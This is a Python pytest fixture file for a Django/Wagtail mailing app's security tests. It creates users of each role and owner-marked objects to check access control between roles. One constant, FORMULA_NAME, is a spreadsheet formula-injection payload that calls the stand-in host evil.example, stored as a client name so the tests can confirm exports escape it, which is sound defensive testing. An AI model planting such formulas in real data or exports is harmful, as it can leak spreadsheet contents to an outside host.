"""One world for the security suites: a user of each role and objects to address.

Mailing user A owns one object of every mailing model; mailing user B owns the same
set, so "another owner's object" is always A's object requested by B.
"""

from __future__ import annotations

import io
from dataclasses import dataclass, field

import pytest
from django.contrib.auth.models import Group
from django.core.files.base import ContentFile
from django.core.files.images import ImageFile
from django.test import Client as HttpClient
from django.utils import timezone
from PIL import Image as PILImage
from wagtail.contrib.redirects.models import Redirect
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.log_actions import log
from wagtail.models import Collection, Page, Site, Task, Workflow

from accounts.models import ApiToken, User
from mailing.api.tokens import issue_token
from mailing.models import (
    Attempt,
    Client,
    ClientField,
    EmailLayout,
    ImportJob,
    Mailing,
    MailingList,
    MailingRun,
    Message,
    Segment,
    SenderIdentity,
    Suppression,
)
from mailing.suppression import suppress_address
from mailing.unsubscribe import make_token
from tests.factories import (
    make_blog_index,
    make_client,
    make_mailing,
    make_message,
    make_post,
    make_user,
    translate,
)
from tests.security.urlwalk import ParamFiller, Probes

# Unique text in each owner's objects: it must never reach another owner or an
# editor; the draft's title reaches only those who may edit pages.
MARKER_A = "Owner-A-7f3c"
MARKER_B = "Owner-B-2e61"
DRAFT_TITLE = "Draft probe"
ROLES = ("anonymous", "user_a", "user_b", "manager", "editor", "blocked", "superuser")
FORBIDDEN = {
    "anonymous": (MARKER_A, MARKER_B, DRAFT_TITLE),
    "blocked": (MARKER_A, MARKER_B, DRAFT_TITLE),
    "user_a": (MARKER_B, DRAFT_TITLE),
    "user_b": (MARKER_A, DRAFT_TITLE),
    "manager": (DRAFT_TITLE,),
    "editor": (MARKER_A, MARKER_B),
    "superuser": (),
}
# A client of A's named like a formula, with a control character XLSX cannot hold:
# every export must escape the one and survive the other.
FORMULA_NAME = f'=HYPERLINK("http://evil.example/?"&A1,"{MARKER_A}")\x0b'


def tiny_png(name: str = "probe.png") -> ImageFile:
    buffer = io.BytesIO()
    PILImage.new("RGB", (8, 8), "white").save(buffer, "PNG")
    return ImageFile(io.BytesIO(buffer.getvalue()), name=name)


def signed_in(user: User, **kwargs) -> HttpClient:
    """A browser of `user`'s; a server error is an answer (500), not an exception."""
    http = HttpClient(raise_request_exception=False, **kwargs)
    http.force_login(user)
    return http


def owned_objects(owner: User, tag: str) -> dict:
    """One object of each mailing model for `owner`, its texts marked with `tag`."""
    client = make_client(
        owner, email=f"{tag}-client@example.org", full_name=f"{tag} Client"
    )
    message = make_message(owner, subject=f"{tag} subject")
    mailing = make_mailing(owner, clients=[client], message=message, name=f"{tag} news")
    run = MailingRun.objects.create(
        mailing=mailing, kind=MailingRun.Kind.MANUAL, slot=timezone.now()
    )
    attempt = Attempt.objects.create(run=run, mailing=mailing, client=client)
    layout = EmailLayout.objects.create(owner=owner, name=f"{tag} layout")
    sender = SenderIdentity.objects.create(
        owner=owner,
        from_name=f"{tag} sender",
        from_email=f"{tag.lower()}-sender@example.org",
        postal_address=f"{tag} street 1",
    )
    suppress_address(owner.pk, f"{tag.lower()}-gone@example.org", "manual", tag)
    field = ClientField.objects.create(owner=owner, key="city", label=f"{tag} field")
    segment = Segment.objects.create(
        owner=owner,
        name=f"{tag} segment",
        rules=[{"type": "attribute", "key": "city", "op": "is_set"}],
    )
    return {
        ClientField: field,
        Segment: segment,
        Suppression: Suppression.objects.get(owner=owner),
        EmailLayout: layout,
        SenderIdentity: sender,
        Client: client,
        Message: message,
        Mailing: mailing,
        MailingList: mailing.lists.get(),
        MailingRun: run,
        Attempt: attempt,
    }


@dataclass
class World:
    users: dict[str, User | None]
    page: Page
    objects_a: dict
    objects_b: dict
    extra: dict = field(default_factory=dict)

    @property
    def markers_a(self) -> list[str]:
        return [MARKER_A]

    def forbidden_markers(self, role: str) -> tuple[str, ...]:
        return FORBIDDEN[role]

    def probes(self) -> Probes:
        """Ids of both owners' objects (and the draft) for query strings."""

        def ids(model) -> list[int]:
            if issubclass(model, Page):
                return [self.extra["draft"].pk, self.page.pk]
            owned = [
                objects[known].pk
                for objects in (self.objects_a, self.objects_b)
                for known in objects
                if issubclass(model, known)
            ]
            return owned or [self.filler()._object_for(model).pk]

        return Probes(ids=ids, searches=("Owner", "Draft"))

    def client_for(self, role: str, **kwargs) -> HttpClient:
        http = HttpClient(**kwargs)
        user = self.users[role]
        if user is not None:
            http.force_login(user)
        return http

    def filler(self) -> ParamFiller:
        by_model = {**self.objects_a, **self.extra["by_model"]}
        return ParamFiller(by_model, self.extra["by_name"], owner=self.users["user_a"])


def _route_params(world_page: Page, revision, image, document, user_b, blog) -> dict:
    """Parameter values that depend on which route they appear in."""
    page_model = world_page.specific_class._meta

    def app_label(route):
        if route.name.startswith("wagtailadmin_workflows"):
            return "wagtailcore"
        if route.name.startswith(("wagtailadmin_pages", "wagtail_bulk_action")):
            return page_model.app_label
        return None

    def model_name(route):
        if route.name.startswith("wagtailadmin_workflows"):
            return "groupapprovaltask"
        if route.name.startswith(("wagtailadmin_pages", "wagtail_bulk_action")):
            return page_model.model_name
        return None

    def pk(route):
        if route.name.startswith("mailing_users:"):
            return user_b
        for area, obj in (
            ("pages", world_page),
            ("images", image),
            ("documents", document),
        ):
            if route.name.startswith(f"wagtailadmin_api:{area}"):
                return obj
        return None

    def token(route):
        # A real unsubscribe token (for user B's client: GET only asks, never acts).
        if route.name == "mailing:unsubscribe":
            return make_token(user_b.clients.first().pk)
        return "set-password"  # not a signed token: the link-invalid pages

    def positional_first(route):
        return {"wagtail_serve": "", "wagtaildocs_serve": document}.get(route.name)

    def positional_second(route):
        if route.name == "wagtaildocs_serve":
            return document.filename
        return None

    def parent_page(route):
        # The chooser opened where the draft is, as an editor linking to it would.
        if route.name == "wagtailadmin_choose_page_child":
            return blog
        return world_page

    return {
        "pk": pk,
        "page_id": world_page,
        "parent_page_id": parent_page,
        "page_to_move_id": world_page,
        "destination_id": world_page,
        "page_pk": world_page,
        "revision_id": revision,
        "image_id": image,
        "document_id": document,
        "doc_id": document,
        "collection_id": Collection.get_first_root_node(),
        "redirect_id": Redirect.objects.create(
            old_path="/old-probe", redirect_link="/"
        ),
        "task_id": Task.objects.order_by("pk").first(),
        "workflow_pk": Workflow.objects.order_by("pk").first(),
        "filter_spec": "original",
        "uidb64": "MQ",
        "token": token,
        "content_type_app_name": app_label,
        "content_type_model_name": model_name,
        "app_label": app_label,
        "model_name": model_name,
        "action": lambda route: (
            "delete" if route.name == "wagtail_bulk_action" else None
        ),
        "_0": positional_first,
        "_1": positional_second,
    }


@pytest.fixture
def world(db) -> World:
    """Users of every role and objects for every parameter the walker can fill."""
    user_a = make_user("mailing_user", email="owner-a@example.com")
    users = {
        "anonymous": None,
        "user_a": user_a,
        "user_b": make_user("mailing_user", email="owner-b@example.com"),
        "manager": make_user("manager", email="manager@example.com"),
        "editor": make_user("editor", email="editor@example.com"),
        "blocked": make_user(
            "mailing_user", email="blocked@example.com", is_blocked=True
        ),
        "superuser": make_user("superuser", email="root@example.com"),
    }
    page = Site.objects.get(is_default_site=True).root_page.specific
    revision = page.save_revision(user=users["editor"])
    image = get_image_model().objects.create(title="probe", file=tiny_png())
    document = get_document_model().objects.create(
        title="probe", file=ContentFile(b"probe", name="probe.txt")
    )
    # The public site: a blog with a published post and a draft (editor-written).
    blog = make_blog_index(title="Blog probe", slug="blog-probe")
    world = World(
        users=users,
        page=page,
        objects_a=owned_objects(user_a, MARKER_A),
        objects_b=owned_objects(users["user_b"], MARKER_B),
    )
    world.extra["blog"] = blog
    world.extra["post"] = make_post(blog, title="Post probe", slug="post-probe")
    # The English tree: the blog and the post translated (served under /en/).
    translate(blog, title="Blog probe EN")
    translate(world.extra["post"], title="Post probe EN")
    world.extra["draft"] = make_post(
        blog, title=DRAFT_TITLE, slug="draft-probe", publish=False
    )
    log_history(world)
    world.extra["by_model"] = {
        User: users["user_b"],
        Group: Group.objects.get(name="Mailing users"),
        get_image_model(): image,
        get_document_model(): document,
        Page: page,
    }
    world.extra["by_name"] = _route_params(
        page, revision, image, document, users["user_b"], blog
    )
    # A run's controls name the mailing (pk) and one of its runs.
    world.extra["by_name"]["run_id"] = world.objects_a[MailingRun]
    # A's finished client import (its page, status and rejected rows).
    world.extra["by_name"]["job_id"] = ImportJob.objects.create(
        owner=users["user_a"], file_token="0" * 32, file_name="a.csv", status="done"
    )
    _name_api_objects(world)
    return world


def _name_api_objects(world: World) -> None:
    """The REST API's object routes ("api:client-detail") name A's objects, its
    users' routes B (as the admin's), the token admin A's own token."""
    objects = {model._meta.model_name: obj for model, obj in world.objects_a.items()}
    objects.update(
        run=world.objects_a[MailingRun],
        layout=world.objects_a[EmailLayout],
        sender=world.objects_a[SenderIdentity],
        list=world.objects_a[MailingList],
        user=world.users["user_b"],
    )
    token, _raw = issue_token(world.users["user_a"], "probe", ApiToken.Scope.READ)
    default = world.extra["by_name"]["pk"]

    def pk(route):
        if route.name.startswith("api:"):
            return objects.get(route.name.removeprefix("api:").partition("-")[0])
        if route.name.startswith("mailing_api_tokens:"):
            return token
        return default(route)

    world.extra["by_name"]["pk"] = pk


def log_history(world: World) -> None:
    """What the site history shows: each owner's work, a manager's moderation."""
    user_a, user_b = world.users["user_a"], world.users["user_b"]
    formula = make_client(user_a, email="formula@example.org", full_name=FORMULA_NAME)
    for obj in (*world.objects_a.values(), formula):
        log(obj, "wagtail.create", user=user_a)
    for obj in world.objects_b.values():
        log(obj, "wagtail.create", user=user_b)
    log(world.objects_a[Mailing], "mailing.disable", user=world.users["manager"])
